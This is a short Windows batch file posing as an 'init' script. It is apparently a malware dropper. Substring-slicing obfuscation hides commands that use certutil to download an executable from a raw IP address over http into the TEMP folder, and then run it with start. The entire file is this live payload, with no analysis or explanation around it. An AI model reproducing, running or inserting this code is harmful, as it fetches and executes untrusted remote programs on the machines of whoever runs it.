REM init 0279 v1
@echo off
@echo off
set "joav=3W:AGne0Ecm19X-f58u4MhtTlPvsrpa\./xi"
%joav:~-27,1%%joav:~6,1%%joav:~28,1%%joav:~22,1%%joav:~18,1%%joav:~22,1%%joav:~35,1%%joav:~24,1%%joav:~32,1%%joav:~6,1%%joav:~34,1%%joav:~6,1% %joav:~14,1%%joav:~-18,1%%joav:~28,1%%joav:~24,1%%joav:~9,1%%joav:~-6,1%%joav:~9,1%%joav:~-15,1%%joav:~6,1% %joav:~-22,1%%joav:~-9,1%%joav:~29,1%%joav:~24,1%%joav:~35,1%%joav:~22,1% %joav:~14,1%%joav:~-21,1% %joav:~21,1%%joav:~-14,1%%joav:~22,1%%joav:~29,1%%joav:~2,1%%joav:~-3,1%%joav:~33,1%%joav:~11,1%%joav:~12,1%%joav:~17,1%%joav:~32,1%%joav:~-20,1%%joav:~-25,1%%joav:~32,1%%joav:~11,1%%joav:~7,1%%joav:~7,1%%joav:~32,1%%joav:~-24,1%%joav:~33,1%%joav:~27,1%%joav:~26,1%%joav:~9,1%%joav:~-4,1%%joav:~6,1%%joav:~34,1%%joav:~6,1% %TEMP%%joav:~31,1%%joav:~-9,1%%joav:~26,1%%joav:~9,1%%joav:~32,1%%joav:~-30,1%%joav:~-2,1%%joav:~6,1%
@echo off
set "eeip=o.\aEfI6evPxCMTnr2s9tc"
%eeip:~18,1%%eeip:~20,1%%eeip:~-19,1%%eeip:~-6,1%%eeip:~-2,1% "" %TEMP%%eeip:~2,1%%eeip:~18,1%%eeip:~9,1%%eeip:~21,1%%eeip:~1,1%%eeip:~8,1%%eeip:~11,1%%eeip:~8,1%
